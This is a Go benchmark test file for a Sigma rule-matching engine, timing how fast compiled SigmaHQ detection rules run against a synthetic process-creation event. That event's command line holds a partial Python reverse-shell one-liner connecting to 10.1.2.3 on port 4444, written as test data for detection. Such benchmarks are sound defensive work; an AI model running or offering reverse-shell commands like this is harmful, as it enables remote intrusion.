package sigma

import (
	"testing"
)

func loadSharedMatchers(b *testing.B) []*Matcher {
	rules, errs := LoadDir(sharedDir(b))
	if len(errs) > 0 {
		b.Fatalf("load errors: %v", errs)
	}
	rep := Report(rules, errs, CompileOptions{Placeholders: map[string][]string{}})
	return rep.Matchers
}

// BenchmarkCompileSigmaHQ measures parsing and compiling the whole shared set.
func BenchmarkCompileSigmaHQ(b *testing.B) {
	dir := sharedDir(b)
	for b.Loop() {
		rules, errs := LoadDir(dir)
		rep := Report(rules, errs, CompileOptions{})
		if rep.Compiled == 0 {
			b.Fatal("nothing compiled")
		}
	}
}

func syntheticProcessCreation() MapEvent {
	cmd := "/usr/bin/python3 -c import socket,subprocess;s=socket.socket();s.connect(('10.1.2.3',4444)) --verbose"
	return MapEvent{
		Fields: map[string]any{
			"Image":             "/usr/bin/python3.11",
			"OriginalFileName":  "python3.11",
			"CommandLine":       cmd,
			"ParentImage":       "/usr/bin/bash",
			"ParentCommandLine": "-bash",
			"CurrentDirectory":  "/home/alice/Projects",
			"User":              "alice",
			"LogonId":           int64(1000),
			"ProcessId":         int64(4242),
			"ParentProcessId":   int64(4100),
		},
		Text: []string{cmd},
	}
}

// BenchmarkMatchAllRules evaluates every compiled SigmaHQ rule against one
// process_creation event per iteration; events/s = 1e9 / (ns/op).
func BenchmarkMatchAllRules(b *testing.B) {
	ms := loadSharedMatchers(b)
	var ev Event = syntheticProcessCreation()
	b.ReportAllocs()
	b.ResetTimer()
	for b.Loop() {
		for _, m := range ms {
			m.Match(ev)
		}
	}
	b.ReportMetric(float64(len(ms)), "rules")
}

// BenchmarkSetMatchAllRules is BenchmarkMatchAllRules through a Set (shared field cache).
func BenchmarkSetMatchAllRules(b *testing.B) {
	set := NewSet(loadSharedMatchers(b))
	var ev Event = syntheticProcessCreation()
	var dst []*Matcher
	b.ReportAllocs()
	b.ResetTimer()
	for b.Loop() {
		dst = set.Match(ev, dst[:0])
	}
	b.ReportMetric(float64(set.Len()), "rules")
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
}

// BenchmarkMatchProcessCreationRules evaluates only the process_creation rules, as a logsource prefilter would.
func BenchmarkMatchProcessCreationRules(b *testing.B) {
	var ms []*Matcher
	for _, m := range loadSharedMatchers(b) {
		if m.Rule.LogSource.Category == "process_creation" {
			ms = append(ms, m)
		}
	}
	set := NewSet(ms)
	var ev Event = syntheticProcessCreation()
	var dst []*Matcher
	b.ReportAllocs()
	b.ResetTimer()
	for b.Loop() {
		dst = set.Match(ev, dst[:0])
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
	b.ReportMetric(float64(len(ms)), "rules")
}
